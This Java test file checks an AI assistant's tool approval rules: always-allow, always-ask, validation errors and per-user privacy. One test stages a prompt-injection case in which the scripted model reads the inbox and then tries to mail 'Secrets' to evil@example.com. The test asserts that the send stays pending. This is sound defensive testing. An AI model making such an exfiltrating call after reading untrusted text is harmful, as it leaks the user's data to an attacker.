package dev.atom.assistant.internal;

import static dev.atom.assistant.internal.ScriptedModel.call;
import static org.assertj.core.api.Assertions.assertThat;

import dev.atom.testing.TestHttp;
import dev.atom.testing.TestUsers;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * Approval rules through the API and a real turn: always allow lets a write to another app run at once, always ask
 * makes even a write to the person's own data wait, outside text read in the turn overrides always allow, a rule is
 * listed, changed, revoked, checked field by field, and private to its person.
 */
class ApprovalRulesApiTest extends AssistantTestBase {
    private static final String RULES = "/api/v1/assistant/approval-rules";

    private JsonNode put(Map<String, Object> body) {
        var r = users().as(ann).put(RULES, body);
        assertThat(r.status()).as(r.toString()).isEqualTo(200);
        return r.json();
    }

    private static void assertProblem(TestHttp.Response r, String field) {
        assertThat(r.status()).as(r.toString()).isEqualTo(400);
        assertThat(r.header("Content-Type")).startsWith("application/problem+json");
        assertThat(r.body()).contains("\"" + field + "\"");
    }

    @Test
    void alwaysAllowRunsTheWriteAtOnceUntilRevoked() {
        assertThat(users().as(ann).get(RULES).json().get("items")).isEmpty();
        JsonNode rule = put(Map.of("tool", "test_mail_send", "mode", "always_allow"));
        assertThat(rule.get("tool").asString()).isEqualTo("test_mail_send");
        assertThat(rule.get("connection").isNull()).isTrue();
        assertThat(rule.get("mode").asString()).isEqualTo("always_allow");
        assertThat(rule.get("destructive").asBoolean()).isTrue();
        assertThat(users().as(ann).get(RULES).json().get("items"))
                .singleElement()
                .satisfies(r -> assertThat(r.get("id").asString())
                        .isEqualTo(rule.get("id").asString()));

        model.plain(
                List.of(call("m1", "test_mail_send", "{\"to\":\"dana@example.com\",\"subject\":\"Lunch?\"}")),
                "Sent.",
                List.of(call("m2", "test_mail_send", "{\"to\":\"lee@example.com\",\"subject\":\"Tea?\"}")),
                "Waiting for you.");
        JsonNode sent = turn("ask Dana to lunch");
        assertThat(sent.at("/actions/0/status").asString()).isEqualTo("done");
        assertThat(mailsSent())
                .singleElement()
                .satisfies(m -> assertThat(m.get("to").asString()).isEqualTo("dana@example.com"));

        var revoked = users().as(ann).delete(RULES + "/" + rule.get("id").asString());
        assertThat(revoked.status()).as(revoked.toString()).isEqualTo(204);
        assertThat(users().as(ann)
                        .delete(RULES + "/" + rule.get("id").asString())
                        .status())
                .isEqualTo(404);
        assertThat(users().as(ann).get(RULES).json().get("items")).isEmpty();
        assertThat(turn("ask Lee to tea").at("/actions/0/status").asString()).isEqualTo("pending");
        assertThat(mailsSent()).hasSize(1);
    }

    @Test
    void afterReadingOutsideTextAnAllowedWriteStillWaits() {
        put(Map.of("tool", "test_mail_send", "mode", "always_allow"));
        model.plain(
                List.of(call("i1", "test_inbox_read", "{}")),
                List.of(call("i2", "test_mail_send", "{\"to\":\"evil@example.com\",\"subject\":\"Secrets\"}")),
                "It waits for you.");
        JsonNode answer = turn("what's in my inbox?");
        assertThat(answer.get("actions")).singleElement().satisfies(a -> {
            assertThat(a.get("tool").asString()).isEqualTo("test_mail_send");
            assertThat(a.get("status").asString()).isEqualTo("pending");
        });
        assertThat(mailsSent()).isEmpty();
    }

    @Test
    void alwaysAskMakesADestructiveOwnWriteWaitAndSavingAgainChangesTheRule() {
        String taskId = users().as(ann)
                .post("/api/v1/tasks", Map.of("title", "Keep me"))
                .json()
                .get("id")
                .asString();
        JsonNode ask = put(Map.of("tool", "tasks_delete", "mode", "always_ask"));
        assertThat(ask.get("destructive").asBoolean()).isTrue();
        assertThat(ask.get("effect").asString()).isEqualTo("own_write");
        model.plain(List.of(call("d1", "tasks_delete", "{\"id\":\"" + taskId + "\"}")), "Waiting.");

        JsonNode answer = turn("delete Keep me");
        assertThat(answer.at("/actions/0/status").asString()).isEqualTo("pending");
        assertThat(taskTitles(ann)).contains("Keep me");

        JsonNode changed = put(Map.of("tool", "tasks_delete", "mode", "always_allow"));
        assertThat(changed.get("id").asString()).isEqualTo(ask.get("id").asString());
        assertThat(changed.get("mode").asString()).isEqualTo("always_allow");
        assertThat(users().as(ann).get(RULES).json().get("items")).hasSize(1);
    }

    @Test
    void badRulesAre400NamingTheFieldAndRulesArePrivate() {
        assertProblem(users().as(ann).put(RULES, Map.of("mode", "always_allow")), "tool");
        assertProblem(users().as(ann).put(RULES, Map.of("tool", "no_such_tool", "mode", "always_allow")), "tool");
        assertProblem(users().as(ann).put(RULES, Map.of("tool", "test_inbox_read", "mode", "always_allow")), "tool");
        assertProblem(users().as(ann).put(RULES, Map.of("tool", "test_mail_send", "mode", "sometimes")), "mode");
        assertProblem(
                users().as(ann)
                        .put(RULES, Map.of("tool", "test_mail_send", "connection", "c-1", "mode", "always_allow")),
                "connection");
        assertProblem(users().as(ann).put(RULES, "[1]"), "body");
        assertThat(users().as(ann).get(RULES).json().get("items")).isEmpty();

        String id = put(Map.of("tool", "test_mail_send", "mode", "always_allow"))
                .get("id")
                .asString();
        TestUsers.User bob = users().invite("bob", ann, "member");
        assertThat(users().as(bob).get(RULES).json().get("items")).isEmpty();
        assertThat(users().as(bob).delete(RULES + "/" + id).status()).isEqualTo(404);
        assertThat(users().as(ann).get(RULES).json().get("items")).hasSize(1);
    }
}
